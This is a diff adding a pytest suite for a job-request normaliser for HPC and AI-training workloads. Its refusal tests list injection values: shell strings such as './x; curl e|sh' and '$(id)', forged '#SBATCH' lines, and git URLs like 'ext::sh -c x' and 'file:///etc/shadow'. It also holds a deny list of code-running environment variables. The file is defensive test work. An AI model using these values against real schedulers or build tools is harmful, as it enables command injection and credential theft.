@@ -1,0 +1,643 @@
+"""Requests in every accepted spelling become one canonical request; what changed is named; what is unsafe is refused."""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pydantic import BaseModel
+
+from modak import dsl, plugins
+from modak import normalise as room
+from modak.dsl import Request
+from modak.errors import Fault, RequestError
+from modak.normalise import Normalised, normalise
+from modak.normalise.optimisation import APP_TYPES, CONFIG, CONFIG_TYPES, DATA, OBJECTIVE, PARALLELISATIONS, PLAIN, WORKLOAD
+from modak.text.documents import strict_json
+from modak.text.words import EXPANDABLE
+
+REQUESTS = Path(__file__).parent.parent / "requests"
+EXAMPLES = Path(__file__).parent.parent.parent / "examples"
+CHOSEN = "optimisation.app_type-ai_training"
+HPC = "optimisation.app_type-hpc"
+TENSORFLOW = {"framework": "tensorflow", "options": {"version": "2.1", "xla": True}}
+MPI = {"framework": "mpi", "config": {"parallelisation": ("mpi",)}, "options": {"library": "mpich", "version": "3.1.4"}}
+
+# kind of document -> fields that warnings name, and canonical values that must come out
+KINDS: dict[str, tuple[list[str], dict[str, Any]]] = {
+    "short-tensorflow": (
+        ["optimisation.opt_build.acc_type"],
+        {
+            "optimisation": {
+                "enable_opt_build": True,
+                "opt_build": {"cpu_type": "x86", "acc_type": "nvidia"},
+                "framework": "tensorflow",
+                "options": {"version": "1.1", "xla": True},
+            }
+        },
+    ),
+    "published-tensorflow": ([], {"target": {"name": "hlrs-testbed", "job_scheduler_type": "torque"}, "optimisation": TENSORFLOW}),
+    "distributed-training": ([], {"optimisation": {"config": {"distributed_training": True}, **TENSORFLOW}}),
+    "published-pytorch": ([], {"optimisation": {"framework": "pytorch", "options": {"version": "1.4", "glow": True}}}),
+    "published-keras": (
+        [f"{CHOSEN}.data"],
+        {"optimisation": {"framework": "keras", "options": {"version": "2.3", "backend": "tensorflow"}}},
+    ),
+    "published-mxnet": ([], {"optimisation": {"framework": "mxnet", "config": {"type": "object_detection"}}}),
+    "published-cntk": ([], {"optimisation": {"framework": "cntk", "config": {"type": "translation"}, "options": {"version": "2.7"}}}),
+    "etl-data": ([], {"optimisation": {"data": {"location": "clic", "etl": {"prefetch": 100, "cache": 100}}}}),
+    "misspelt-learning": ([f"{CHOSEN}.config.type"], {"optimisation": {"config": {"type": "reinforcement_learning"}}}),
+    "accelerator-none": ([], {"optimisation": {"opt_build": {"acc_type": "none"}}}),
+    "accelerator-empty": (["optimisation.opt_build.acc_type"], {"optimisation": {"opt_build": {"acc_type": "none"}}}),
+    "published-mpi": (
+        [],
+        {
+            "application": {"app_type": "mpi", "mpi_ranks": 40, "threads": 1, "executable": ("./solver",), "arguments": ("in.dat",)},
+            "optimisation": {"options": {"library": "mpich", "scaling_efficiency": 0.75, "core_subscription": 1, "message_size": "small"}},
+        },
+    ),
+    "parallelisation-list": ([], {"optimisation": MPI}),
+    "parallelisation-text": ([], {"optimisation": MPI}),
+    "mpi-misspelt-mvapich": ([f"{HPC}.parallelisation-mpi.library"], {"optimisation": {"options": {"library": "mvapich"}}}),
+    "mpi-misspelt-openmpi": ([f"{HPC}.parallelisation-mpi.library"], {"optimisation": {"options": {"library": "openmpi"}}}),
+    "published-openmp": (
+        [],
+        {"application": {"threads": 8}, "optimisation": {"framework": "openmp", "options": {"number_of_threads": 8, "affinity": "block"}}},
+    ),
+    "published-openacc": (
+        [],
+        {"job_options": {"request_gpus": 2}, "optimisation": {"framework": "openacc", "options": {"compiler": "pgi", "version": "20.4"}}},
+    ),
+    "opencl-and-opencc": ([f"{HPC}.config.parallelisation"], {"optimisation": {"config": {"parallelisation": ("opencl",)}}}),
+    "mpi-and-openmp": (
+        [],
+        {
+            "application": {"threads": 4},
+            "optimisation": {"framework": "mpi", "options": {"library": "openmpi"}, "further": {"openmp": {"affinity": "simple"}}},
+        },
+    ),
+    "big-data": ([], {"optimisation": {"app_type": "big_data", "framework": None}}),
+    "inference": ([], {"optimisation": {"app_type": "ai_inference", "framework": "tensorflow"}}),
+    "no-optimisation": ([], {"job_options": {"job_name": "skyline-extraction", "process_count_per_node": 40, "wall_time_limit": 3600}}),
+    "empty-target": ([], {"target": {"name": None, "job_scheduler_type": None}}),
+    "no-target": ([], {"target": {"name": None, "job_scheduler_type": None}}),
+    "scheduler-pbs": (["target.queue_type"], {"target": {"job_scheduler_type": "torque"}}),
+    "scheduler-slurm-only": ([], {"target": {"name": None, "job_scheduler_type": "slurm"}, "job_options": {"account": "project_1"}}),
+    "scheduler-none": (["target.job_scheduler_type"], {"target": {"name": "vm-1", "job_scheduler_type": "shell"}}),
+    "scheduler-batch": (["target.job_scheduler_type"], {"target": {"job_scheduler_type": "shell"}}),
+    "cloud": (["target.job_scheduler_type", "target.name"], {"target": {"name": None, "job_scheduler_type": "shell"}}),
+    "numbers-as-text": (
+        [
+            *(f"application.{name}" for name in ("minimal_efficiency", "mpi_ranks", "threads")),
+            *(f"job_options.{name}" for name in ("combine_stdout_stderr", "copy_environment", "core_count_per_process")),
+            *(
+                f"job_options.{name}"
+                for name in ("node_count", "node_exclusive", "process_count_per_node", "request_gpus", "wall_time_limit")
+            ),
+        ],
+        {
+            "job_options": {
+                "node_count": 2,
+                "process_count_per_node": 20,
+                "core_count_per_process": 1,
+                "request_gpus": 1,
+                "wall_time_limit": 43200,
+                "combine_stdout_stderr": True,
+                "copy_environment": False,
+                "node_exclusive": False,
+            },
+            "application": {"mpi_ranks": 40, "threads": 1, "minimal_efficiency": 0.75},
+        },
+    ),
+    "nulls": ([], {"job_options": {"account": None, "copy_environment_variable": ()}, "optimisation": {"framework": "tensorflow"}}),
+    "all-job-options": (
+        [],
+        {
+            "job_options": {
+                "wall_time_limit": 108_000,
+                "memory_limit": 64 * 10**9,
+                "minimum_memory_per_processor": 512 * 2**20,
+                "request_specific_nodes": "node1,node[03-04]",
+                "copy_environment_variable": ("SCENARIO", "DATA_DIR"),
+                "request_event_notification": ("fail", "begin", "end"),
+                "defer_job": "2027-01-31T08:00",
+                "core_count": 40,
+                "architecture_constraint": "skylake&ssd",
+            }
+        },
+    ),
+    "slurm-words": (
+        ["job_options.job_dependency"],
+        {
+            "job_options": {
+                "request_event_notification": ("begin", "end", "time_limit"),
+                "defer_job": "now+2hours",
+                "job_dependency": "afterok:1234",
+                "wall_time_limit": 108_000,
+            }
+        },
+    ),
+    "torque-letters-none": (
+        ["job_options.defer_job"],
+        {"job_options": {"request_event_notification": ("none",), "defer_job": "2027-01-31T08:00", "wall_time_limit": 3600}},
+    ),
+    "trailing-blank": (["job_options.wall_time_limit"], {"job_options": {"wall_time_limit": 3600}}),
+    "unresolved-email": (
+        ["job_options.email_address"],
+        {"job_options": {"email_address": None, "request_event_notification": ("begin", "end", "fail", "requeue")}},
+    ),
+    "fortran-build": (
+        ["application.build.src"],
+        {
+            "application": {
+                "app_type": "fortran",
+                "build": {"src": "${HOME}/solver/.git", "build_command": "make -j {{BUILD_PARALLELISM}}", "build_parallelism": 4},
+                "storage_class_pref": "default-high",
+            }
+        },
+    ),
+    "c-build": ([], {"application": {"app_type": "c", "build": {"src": "https://example.org/team/solver.git"}}}),
+    "cxx-private-image": ([], {"application": {"app_type": "c++", "container_runtime": "private://registry/solver:2"}}),
+    "shub-image": ([], {"application": {"container_runtime": "shub://vsoch/hello-world"}}),
+    "pre-and-post": ([], {"application": {"app_type": "python"}}),
+    "autotuning": (["optimisation.autotuning.tuner"], {"optimisation": {"enable_autotuning": True, "autotuning": {"tuner": "cresta"}}}),
+    "autotuning-any-text": (
+        ["optimisation.autotuning.input", "optimisation.autotuning.tuner"],
+        {"optimisation": {"autotuning": {"tuner": None, "input": '{"x": [1, 2]}'}}},
+    ),
+    "queue-that-is-not-there": ([], {"job_options": {"queue": "gpuq", "core_count": 40, "process_count_per_node": 64}}),
+    "unknown-keys": (
+        [f"{CHOSEN}.ai_framework-tensorflow.xla_jit", "application.colour", "job_options.node_cout", "job_options.priority"],
+        {"job_options": {"job_name": "u", "node_count": None}},
+    ),
+    "objective-and-workload": (
+        [],
+        {
+            "target": {"name": "supermuc-ng"},
+            "optimisation": {
+                "options": {"version": "2.*", "xla": "auto", "distribution": "horovod"},
+                "objective": {"minimise": "node_hours", "deadline": 14_400, "max_nodes": 64, "min_efficiency": 0.75},
+                "workload": {"application": "3dgan", "epochs": 20, "params": {"latent": 200, "optimiser": "rmsprop"}},
+            },
+        },
+    ),
+    "response-sent-again": ([], {"application": {"container_runtime": "docker://tensorflow/tensorflow:2.1.0-gpu-py3"}}),
+}
+
+
+def read(path: Path) -> Any:
+    """The document in a file."""
+    return strict_json(path.read_bytes())
+
+
+def within(part: Any, whole: Any) -> bool:
+    """Whether all of ``part`` is found in ``whole``."""
+    if isinstance(part, dict):
+        return all(key in whole and within(value, whole[key]) for key, value in part.items())
+    return bool(part == whole)
+
+
+def faulty(document: Any, **options: Any) -> dict[str, str]:
+    """Field -> message of what is wrong."""
+    with pytest.raises(RequestError) as caught:
+        normalise(document, **options)
+    return {fault.field: fault.message for fault in caught.value.faults}
+
+
+def job(section: str, **fields: Any) -> dict[str, Any]:
+    """A request with one section."""
+    return {"job": {section: fields}}
+
+
+def test_every_kind_of_document_is_in_the_table() -> None:
+    """The folder of requests and the table below name the same kinds, two dozen of them at least."""
+    assert {path.stem for path in REQUESTS.glob("*.json")} == set(KINDS)
+    assert len(KINDS) >= 24
+
+
+@pytest.mark.parametrize("kind", sorted(KINDS))
+def test_a_kind_of_document_is_accepted(kind: str) -> None:
+    """It becomes the canonical values, with a warning for each field that was changed and no other."""
+    fields, values = KINDS[kind]
+    found = normalise(read(REQUESTS / f"{kind}.json"))
+    assert sorted({warning.field for warning in found.warnings}) == sorted(fields)
+    assert within(values, found.request.model_dump()), found.request.model_dump()
+
+
+@pytest.mark.parametrize("kind", sorted(KINDS))
+def test_strict_turns_each_warning_into_an_error(kind: str) -> None:
+    """Strictly, a document passes where it raised no warning, and names the same fields where it did."""
+    document, fields = read(REQUESTS / f"{kind}.json"), KINDS[kind][0]
+    if fields:
+        assert set(faulty(document, strict=True)) == set(fields)
+    else:
+        assert normalise(document, strict=True).warnings == ()
+
+
+@pytest.mark.parametrize("path", sorted(EXAMPLES.glob("*.json")), ids=lambda path: path.stem)
+def test_our_examples_are_strictly_right(path: Path) -> None:
+    """Examples need no tolerance, but for the capital letter of the published listing."""
+    document = read(path)
+    if path.stem == "listing1-hlrs":
+        assert set(faulty(document, strict=True)) == {"optimisation.opt_build.acc_type"}
+    else:
+        assert normalise(document, strict=True).warnings == ()
+
+
+@pytest.mark.parametrize("path", sorted(REQUESTS.glob("*.json")), ids=lambda path: path.stem)
+def test_the_document_is_kept_as_it_came(path: Path) -> None:
+    """Nothing is changed in the caller's document, and the answer carries it."""
+    document = read(path)
+    before = copy.deepcopy(document)
+    assert normalise(document).document is document
+    assert document == before
+
+
+def test_the_reader_knows_every_field_of_the_model() -> None:
+    """A field of the canonical request that no reader knows could never be set."""
+    assert set(room.JOB_OPTIONS) == set(dsl.JobOptions.model_fields)
+    assert set(room._application(())) == set(dsl.Application.model_fields)
+    assert set(room.TARGET) == set(dsl.Target.model_fields)
+    assert set(PLAIN) | {"config", "data", "framework", "options", "further"} == set(dsl.Optimisation.model_fields)
+    assert set(CONFIG) - {"ai_framework"} == set(dsl.Config.model_fields)
+    assert set(DATA) == set(dsl.Data.model_fields)
+    assert set(OBJECTIVE) == set(dsl.Objective.model_fields)
+    assert set(WORKLOAD) == set(dsl.Workload.model_fields)
+
+
+PAGE = (Path(__file__).parent.parent.parent / "docs" / "request.md").read_text()
+
+
+def test_every_field_is_documented() -> None:
+    """The page on requests names every field, every option of a framework and every allowed word."""
+    models: list[type[BaseModel]] = [dsl.JobOptions, dsl.Application, dsl.Build, dsl.Target, dsl.OptBuild, dsl.Autotuning]
+    models += [dsl.Config, dsl.Etl, dsl.Data, dsl.Objective, dsl.Workload]
+    names = {name for model in models for name in model.model_fields}
+    names |= {name for variant in plugins.all_of("frameworks") for name in (variant.name, *variant.options.model_fields)}
+    names |= {*plugins.names("runtimes"), *plugins.names("schedulers")}
+    names |= {*room.OUT_OF_SUPPORT, *APP_TYPES, *CONFIG_TYPES, *PARALLELISATIONS, *EXPANDABLE}
+    assert {name for name in names if name not in PAGE and name.replace("_", "-") not in PAGE} == set()
+
+
+@pytest.mark.parametrize("text", re.findall(r"```json\n(.*?)```", PAGE, re.DOTALL))
+def test_the_documented_documents_are_strictly_right(text: str) -> None:
+    """Each piece of JSON on the page is a request, or an optimisation section of one."""
+    document = strict_json(text)
+    assert normalise(document if "job" in document else {"job": {"optimisation": document}}, strict=True).warnings == ()
+
+
+def mixed(*values: Any) -> tuple[Any, ...]:
+    """Values of several types for one field."""
+    return values
+
+
+HOSTILE: list[tuple[str, str, Any]] = [
+    *(
+        ("job_options", "job_name", text)
+        for text in ("x --output=/home/v/.ssh/authorized_keys", "x\ntouch P", "x\r", "x\u2028y", "x\u0085", "x\n")
+    ),
+    *(("job_options", "job_name", text) for text in ("abc#def", "-wrap", "", "a" * 65, "é", "%x", "x\u202ey", "../../T", "a/b")),
+    *(
+        ("job_options", field, text)
+        for field in ("queue", "partition", "account")
+        for text in ("a b", "a'b", "a;b", "-a", 'a"b', "a\nb", "$(id)")
+    ),
+    *(
+        ("job_options", "wall_time_limit", value)
+        for value in mixed(0, -1, 10**9, float("nan"), 30, "1 day, 2:00:00", "0:00:00", "1:00\n#", True, [])
+    ),
+    *(("job_options", "node_count", value) for value in mixed(0, -1, 10**9, "2; x", 2.5, True, 2**70, "", [], {}) if value != ""),
+    *(("job_options", "standard_output_file", text) for text in ("/abs", "../x", "~/x", "$HOME/x", "-o", "x\\", "%j%q", "a b", "x\n")),
+    *(("job_options", "email_address", text) for text in mixed("a@b\nX", "a@b --wrap=x", "a@b.c,d@e.f", "a" * 300 + "@b.c", "nobody", [])),
+    *(("job_options", "request_event_notification", value) for value in mixed("begin;x", "abz", "--wrap=x", ["BEGIN", "x y"], 7, [[]])),
+    *(("job_options", "copy_environment_variable", value) for value in ("ALL,BASH_ENV=/s/e.sh", "A=b", ["A=b"], 7, [7])),
+    *(("job_options", "request_specific_nodes", text) for text in ("n1 --exclusive", "n[1-999999999]", "n[5-1]", "n1;x", "-w")),
+    *(("job_options", "job_array", text) for text in ("1 --wrap=x", "a", "1-")),
+    *(("job_options", "job_dependency", text) for text in ("afterok:1 --wrap", "afterok", "x;y")),
+    *(("job_options", "defer_job", text) for text in ("now --wrap=x", "tomorrow", "2027-13-45", "25:00")),
+    *(("job_options", "architecture_constraint", text) for text in ("a b", "a;b", "&a")),
+    *(("job_options", "memory_limit", value) for value in ("10 GB --x", "much", -1, 0, True, "16", 1.5)),
+    *(
+        ("application", "executable", text)
+        for text in ("./x; curl e|sh", "$(id)", "`id`", "x > /etc/p", "x & y", "a\nb", "A=1 x", "-x", "''", "")
+    ),
+    *(("application", "arguments", text) for text in mixed("${PATH}", "${SECRET}", "*", "~", "{a,b}", "$HOME", "a\0b", 7.5j, {}, [1])),
+    *(("application", field, value) for field in ("mpi_ranks", "threads") for value in (0, 2**63, "x", 1.5, None.__class__)),
+    *(("application", "app_tag", text) for text in ("x\n#SBATCH --x", "a b", "../x")),
+    *(
+        ("application", "container_runtime", text)
+        for text in ("docker://evil/x@sha256:short", "docker://--disable-cache", "--evil", "http://r/x:1")
+    ),
+    *(("application", "container_runtime", text) for text in ("../x.sif", "a b.sif", "docker", "y$(touch P)", "docker://a/b:c d")),
+    *(("application", "minimal_efficiency", value) for value in (0, 2, -1, float("inf"), "x")),
+    *(("target", "container_runtime", text) for text in ("docker", "Shifter", "podman")),
+    *(("target", "name", text) for text in ("a b", "x;y", "../x")),
+]
+
+
+@pytest.mark.parametrize(("section", "field", "value"), HOSTILE)
+def test_what_cannot_be_expressed_safely_is_refused(section: str, field: str, value: Any) -> None:
+    """The fault names the field, in one line, and shows no control character."""
+    found = faulty(job(section, **{field: value}))
+    assert {name.split(".")[1] for name in found} == {field}
+    assert all(message.isprintable() for message in found.values())
+
+
+@pytest.mark.parametrize("name", ["LD_PRELOAD", "BASH_ENV", "PATH", "IFS", "PYTHONPATH", "SLURM_CONF", "SINGULARITY_BIND", "a-b", "x;y"])
+def test_variables_that_run_code_are_not_copied(name: str) -> None:
+    """A variable that changes what a shell, loader or scheduler runs is refused by name."""
+    assert "job_options.copy_environment_variable.0" in faulty(job("job_options", copy_environment_variable=[name]))
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        "file:///etc/shadow",
+        "ssh://-oProxyCommand=x/",
+        "ext::sh -c x",
+        "https://u:p@h/x.git",
+        "https://h/$(id).git",
+        "-upload-pack=x",
+        "../x",
+    ],
+)
+def test_sources_are_https_or_a_path(src: str) -> None:
+    """Addresses that run commands, carry a password or leave their folder are refused."""
+    assert "application.build.src" in faulty(job("application", build={"src": src}))
+
+
+def test_runtimes_out_of_support_are_refused_by_name() -> None:
+    """The answer says which runtime it is and which are supported."""
+    message = faulty(job("target", container_runtime="shifter"))["target.container_runtime"]
+    assert "shifter" in message
+    assert "apptainer" in message
+
+
+def test_all_faults_come_at_once() -> None:
+    """One answer names everything that is wrong, in all sections."""
+    document = {
+        "job": {"job_options": {"node_count": 0, "job_name": "a b"}, "application": {"executable": "a;b"}, "target": {"name": "a b"}}
+    }
+    assert set(faulty(document)) == {"job_options.node_count", "job_options.job_name", "application.executable", "target.name"}
+
+
+@pytest.mark.parametrize("document", [[], None, "x", 1, {}, {"job": []}, {"job": 1}, {"jobs": {}}, {"job": None}])
+def test_what_is_no_request_is_refused(document: Any) -> None:
+    """A document without a job says what a request looks like."""
+    assert "job_options" in " ".join(faulty(document).values())
+
+
+def test_sections_without_job_are_read_with_a_warning() -> None:
+    """Somebody who forgets the outer key gets an answer, and is told."""
+    found = normalise({"job_options": {"node_count": 2}})
+    assert found.request.job_options.node_count == 2
+    assert [warning.field for warning in found.warnings] == ["job"]
+
+
+def test_a_runtime_where_an_image_belongs_is_understood() -> None:
+    """``application.container_runtime: singularity`` asks for the runtime, not for an image of that name."""
+    found = normalise(job("application", container_runtime="singularity"))
+    assert found.request.target.container_runtime == "singularity"
+    assert found.request.application.container_runtime is None
+
+
+def test_one_section_is_chosen_the_other_is_named() -> None:
+    """Where two kinds of application are filled in, ``app_type`` decides, and the other is left out with a warning."""
+    document = job("optimisation", app_type="hpc", **{"app_type-ai_training": {"tensorflow": {}}, "app_type-hpc": {"mpi": {}}})
+    found = normalise(document)
+    assert found.request.optimisation.framework == "mpi"
+    assert [warning.field for warning in found.warnings] == ["optimisation.app_type-ai_training"]
+
+
+def test_the_kind_of_application_follows_from_its_section() -> None:
+    """Without ``app_type`` the section says it, with a warning; ``training`` is understood."""
+    found = normalise(job("optimisation", training={"pytorch": {"torch_compile": True}}))
+    assert (found.request.optimisation.app_type, found.request.optimisation.framework) == ("ai_training", "pytorch")
+    assert getattr(found.request.optimisation.options, "inductor", None) is True
+    assert {warning.field for warning in found.warnings} == {"optimisation.app_type", "optimisation.training"}
+
+
+def test_horovod_beside_a_framework_distributes_it() -> None:
+    """A key of its own for Horovod means the same as the framework's option."""
+    found = normalise(job("optimisation", app_type="ai_training", ai_training={"horovod": {}, "tensorflow": {"version": "2.1"}}))
+    assert found.request.optimisation.framework == "tensorflow"
+    assert getattr(found.request.optimisation.options, "distribution", None) == "horovod"
+
+
+def test_an_unknown_framework_is_named_and_left_out() -> None:
+    """A framework that no plug-in has gives a warning with the known ones, and a request all the same."""
+    found = normalise(job("optimisation", app_type="ai_training", ai_training={"config": {"ai_framework": "tensorfow"}, "tensorfow": {}}))
+    assert found.request.optimisation.framework is None
+    assert any("did you mean 'tensorflow'" in warning.message for warning in found.warnings)
+
+
+@pytest.mark.parametrize(
+    ("section", "name", "word", "meant"),
+    [
+        ("target", "job_scheduler_type", "slrum", "slurm"),
+        ("target", "container_runtime", "aptainer", "apptainer"),
+        ("optimisation", "objective", {"minimise": "node hour"}, "node_hours"),
+        ("optimisation", "opt_build", {"acc_type": "nvida"}, "nvidia"),
+    ],
+)
+def test_a_misspelt_word_is_told_what_it_may_have_been(section: str, name: str, word: object, meant: str) -> None:
+    """It is left out, with a warning."""
+    (warning,) = normalise(job(section, **{name: word})).warnings
+    assert f"; did you mean {meant!r}? known: " in warning.message
+
+
+def test_versions_as_numbers_are_warned_of() -> None:
+    """A number loses the zero of 2.10, so it is named."""
+    found = normalise(job("optimisation", app_type="ai_training", ai_training={"tensorflow": {"version": 2.1}}))
+    assert found.request.optimisation.options.version == "2.1"
+    assert len(found.warnings) == 1
+
+
+def test_options_of_a_framework_are_checked() -> None:
+    """A value that an option cannot have is a fault at the place where it was written."""
+    document = job("optimisation", app_type="hpc", hpc={"mpi": {"scaling_efficiency": 7}})
+    assert set(faulty(document)) == {"optimisation.hpc.mpi.scaling_efficiency"}
+
+
+def test_a_number_without_a_fraction_is_whole() -> None:
+    """JSON has one kind of number, and many writers put ``.0`` behind each."""
+    document = {"job": {"job_options": {"node_count": 2.0}, "application": {"executable": "./solve"}}}
+    assert normalise(document, strict=True).request.job_options.node_count == 2
+
+
+def test_a_switch_among_the_parameters_is_the_word_of_results() -> None:
+    """Not the number 1, which no result has there."""
+    sent = {"job": {"application": {"executable": "./solve"}, "optimisation": {"workload": {"params": {"overlap": True, "seed": 1}}}}}
+    assert normalise(sent, strict=True).request.optimisation.workload.params == {"overlap": "true", "seed": 1.0}
+
+
+def test_threads_given_twice_are_named() -> None:
+    """The job's count holds against the framework's, with a warning."""
+    section = {"openmp": {"number_of_threads": 8}}
+    document = {"job": {"application": {"threads": 4}, "optimisation": {"app_type": "hpc", "hpc": section}}}
+    found = normalise(document)
+    assert found.request.application.threads == 4
+    assert [warning.field for warning in found.warnings] == ["application.threads"]
+    assert set(faulty(document, strict=True)) == {"application.threads"}
+
+
+def test_a_field_given_twice_is_read_once() -> None:
+    """The documented key holds against another spelling of it, which is named."""
+    found = normalise(job("target", queue_type="slurm", job_scheduler_type="torque"))
+    assert found.request.target.job_scheduler_type == "torque"
+    assert [warning.field for warning in found.warnings] == ["target.queue_type"]
+
+
+def test_a_library_that_is_not_known_is_left_out() -> None:
+    """An unknown word in a framework's options is a warning, not an error."""
+    found = normalise(job("optimisation", app_type="hpc", hpc={"mpi": {"library": "foompi"}}))
+    assert getattr(found.request.optimisation.options, "library", "?") is None
+    assert [warning.field for warning in found.warnings] == ["optimisation.hpc.mpi.library"]
+
+
+def test_a_number_where_an_option_is_text_is_its_digits() -> None:
+    """With a warning, as for ``version``."""
+    found = normalise(job("optimisation", app_type="ai_training", ai_training={"horovod": {"framework_version": 2.1}}))
+    assert getattr(found.request.optimisation.options, "framework_version", None) == "2.1"
+    assert [warning.field for warning in found.warnings] == ["optimisation.ai_training.horovod.framework_version"]
+
+
+def test_no_mail_and_mail_is_mail() -> None:
+    """``none`` beside other events is left out, with a warning."""
+    found = normalise(job("job_options", request_event_notification=["NONE", "END"]))
+    assert found.request.job_options.request_event_notification == ("end",)
+    assert len(found.warnings) == 1
+
+
+@pytest.mark.parametrize(
+    ("section", "field", "value", "says"),
+    [
+        ("job_options", "copy_environment_variable", "A=b", "names alone"),
+        ("job_options", "memory_limit", "16", "without a unit"),
+        ("job_options", "node_count", True, "a whole number"),
+        ("job_options", "wall_time_limit", "1 day, 2:00:00", "d-hh:mm:ss"),
+        ("application", "executable", "./x; curl e", "character 4"),
+        ("application", "container_runtime", "docker", "apptainer"),
+    ],
+)
+def test_a_fault_says_what_is_allowed(section: str, field: str, value: Any, says: str) -> None:
+    """In words that help to put it right."""
+    assert says in faulty(job(section, **{field: value}))[f"{section}.{field}"]
+
+
+def test_words_of_a_list_are_literal() -> None:
+    """Arguments as a list are words as they are, byte for byte."""
+    words = ["it's", "$HOME", "", "a\nb", "--", "*"]
+    found = normalise(job("application", executable="./a", arguments=words))
+    assert found.request.application.arguments == tuple(words)
+    assert found.warnings == ()
+    assert len(normalise(job("application", arguments=["${HOME}"])).warnings) == 1
+
+
+def test_copied_variables_may_be_used_in_commands() -> None:
+    """A variable that the request copies is one that its command may expand."""
+    document = {"job": {"job_options": {"copy_environment_variable": "OWN"}, "application": {"executable": "./a ${OWN}"}}}
+    assert len(normalise(document).request.application.executable) == 2
+
+
+def test_a_flood_of_unknown_keys_is_counted() -> None:
+    """Thousands of unknown keys give a few warnings and a count, in no time."""
+    found = normalise(job("job_options", **{f"key{n}": n for n in range(20_000)}))
+    assert len(found.warnings) == 21
+    assert "19980 more" in found.warnings[-1].message
+
+
+def test_the_request_survives_json_apart_from_options() -> None:
+    """A canonical request is plain data."""
+    found = normalise(read(REQUESTS / "all-job-options.json")).request
+    again = Request.model_validate_json(found.model_dump_json())
+    assert again == found
+
+
+SECTION_KEYS = ["job", "job_options", "application", "target", "optimisation", "config", "data", "build", "objective", "workload", "params"]
+FIELD_KEYS = [
+    "node_count",
+    "job_name",
+    "wall_time_limit",
+    "executable",
+    "arguments",
+    "container_runtime",
+    "name",
+    "version",
+    "src",
+    "deadline",
+]
+CHOSEN_KEYS = ["app_type", "ai_training", "app_type-hpc", "tensorflow", "parallelisation-mpi", "library", "copy_environment_variable"]
+KEYS = st.sampled_from([*SECTION_KEYS, *FIELD_KEYS, *CHOSEN_KEYS])
+JSON = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(max_size=8)
+    | st.sampled_from(["mpi", "[mpi]", "{}", "1:00", "hpc", "docker"]),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS | st.text(max_size=6), inner, max_size=6),
+    max_leaves=25,
+)
+DOCUMENTS = st.fixed_dictionaries(
+    {
+        "job": st.fixed_dictionaries(
+            {},
+            optional={
+                "job_options": st.dictionaries(st.sampled_from(sorted(room.JOB_OPTIONS)), JSON, max_size=6) | JSON,
+                "application": st.dictionaries(st.sampled_from(sorted(room._application(()))), JSON, max_size=6) | JSON,
+                "target": st.dictionaries(st.sampled_from(sorted(room.TARGET)), JSON) | JSON,
+                "optimisation": st.dictionaries(st.sampled_from([*PLAIN, "ai_training", "app_type-hpc", "big_data"]), JSON, max_size=6)
+                | JSON,
+            },
+        )
+    }
+)
+
+
+def outcome(document: Any, strict: bool) -> tuple[Normalised | None, tuple[Fault, ...]]:
+    """What was read, or why not; an exception of another kind fails the test that asks."""
+    try:
+        return normalise(document, strict=strict), ()
+    except RequestError as error:
+        return None, error.faults
+
+
+@settings(max_examples=400, deadline=None)
+@given(JSON | DOCUMENTS, st.booleans())
+def test_whatever_is_sent_is_read_or_refused(document: Any, strict: bool) -> None:
+    """No document makes another exception than one of ours; what is read is canonical, and warnings are one line."""
+    found, faults = outcome(document, strict)
+    assert all(fault.field.isprintable() and fault.message.isprintable() for fault in faults)
+    if found is None:
+        assert faults
+        return
+    assert isinstance(found, Normalised)
+    assert all(warning.message.isprintable() for warning in found.warnings)
+    json.loads(found.request.model_dump_json())
+
+
+@pytest.mark.parametrize(("written", "meant"), [("DDP", "ddp"), (" Fsdp ", "fsdp"), ("ddp", "ddp")])
+def test_words_of_a_framework_may_have_capitals(written: str, meant: str) -> None:
+    """As words elsewhere: the distribution of a training is not lost over its spelling, and a change is said."""
+    job = {"optimisation": {"app_type": "ai_training", "ai_training": {"pytorch": {"distribution": written}}}}
+    found = normalise({"job": job})
+    assert getattr(found.request.optimisation.options, "distribution", None) == meant
+    assert len(found.warnings) == (written != meant)
+
+
+@pytest.mark.parametrize(
+    ("written", "field"),
+    [("nodes", "node_count"), ("ranks_per_node", "process_count_per_node"), ("gpus_per_node", "request_gpus"), ("gpus", "request_gpus")],
+)
+def test_counts_of_a_job_may_be_called_as_in_results(written: str, field: str) -> None:
+    """The columns of the results table name the same counts."""
+    found = normalise({"job": {"job_options": {written: 4}}})
+    assert getattr(found.request.job_options, field) == 4
+    assert [warning.message for warning in found.warnings] == [f"the key is read as {field!r}"]
